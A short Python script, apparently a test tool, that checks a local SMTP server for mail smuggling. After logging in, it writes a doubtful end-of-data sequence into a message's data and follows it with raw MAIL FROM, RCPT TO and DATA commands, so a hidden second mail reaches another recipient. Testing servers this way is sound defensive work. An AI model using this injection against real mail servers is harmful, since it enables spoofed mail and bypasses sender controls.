"""A device that hides a second mail in the data of a first: what follows a doubtful end of the data looks
like commands.

Arguments: port trusted version mechanism user secret to hidden end pieces. Signs in as the user, by PLAIN
with a password or by XOAUTH2 with a token, and sends a mail to one address, in whose data is one to
another. The end is written with escapes, such as \\n.\\n; pieces is "whole", or "bytes" for a record of TLS
for each byte. Prints all replies to the data.
"""

import smtplib
import socket
import ssl
import sys

(port, trusted, version, mechanism, user, secret, to, hidden, end, pieces) = sys.argv[1:]

context = ssl.create_default_context(cafile=trusted)
context.minimum_version = context.maximum_version = ssl.TLSVersion[version]
if version == "TLSv1":
    context.set_ciphers("ALL:@SECLEVEL=0")

device = smtplib.SMTP("localhost", int(port), timeout=30)
device.starttls(context=context)
device.ehlo()
if mechanism == "PLAIN":
    device.login(user, secret)
else:
    answer = f"user={user}\x01auth=Bearer {secret}\x01\x01"
    device.auth(mechanism, lambda challenge=None: answer, initial_response_ok=False)
device.mail(user)
device.rcpt(to)
assert device.docmd("DATA")[0] == 354

data = (
    "Subject: open\r\n\r\nopen"
    + end.encode().decode("unicode_escape")
    + f"MAIL FROM:<{user}>\r\nRCPT TO:<{hidden}>\r\nDATA\r\n"
    + "Subject: hidden\r\n\r\nhidden\r\n.\r\nQUIT\r\n"
).encode()
device.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
size = len(data) if pieces == "whole" else 1
try:
    for at in range(0, len(data), size):
        device.sock.sendall(data[at : at + size])
except OSError as closed:
    print("closed while sending:", closed)
try:
    while line := device.file.readline():
        print("<", line.decode().strip())
except OSError as closed:
    print("closed:", closed)
